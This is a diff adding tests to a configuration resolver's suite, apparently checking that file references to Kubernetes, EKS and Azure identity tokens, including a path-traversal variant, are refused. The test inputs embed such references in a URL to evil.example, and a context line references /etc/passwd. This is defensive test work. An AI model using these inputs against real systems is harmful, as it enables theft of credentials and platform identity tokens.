@@ -153,6 +153,20 @@ describe("[relay 7.1] a reference", () => {
     expect(config).toMatchObject({ username: "${file:/etc/passwd}", sasl_password: "${env:OTHER}" });
   });
 
+  it.each([
+    "kubernetes.io/serviceaccount/token",
+    "eks.amazonaws.com/serviceaccount/token",
+    "azure/tokens/azure-identity-token",
+    "x/..//kubernetes.io/serviceaccount/token",
+  ])("[R-03] reads no token that says who the process is: %s", async (path) => {
+    const { directory } = root();
+    mkdirSync(join(directory, path, ".."), { recursive: true });
+    writeFileSync(join(directory, path), "token-of-the-platform", { mode: 0o600 });
+    const reference = `\${file:${directory}/${path}}`;
+    const error = await refusal(open({ url: `https://evil.example/?${reference}` }, { secretRoots: [directory] }));
+    expect(`${error.code} ${error.parts.detail}`).toContain("CONFIG_REFERENCE_UNRESOLVED That is a credential");
+  });
+
   it("[R-03] reads no file outside of the roots, by whatever way it is named", async () => {
     const { directory, put } = root();
     mkdirSync(join(directory, "inside"));
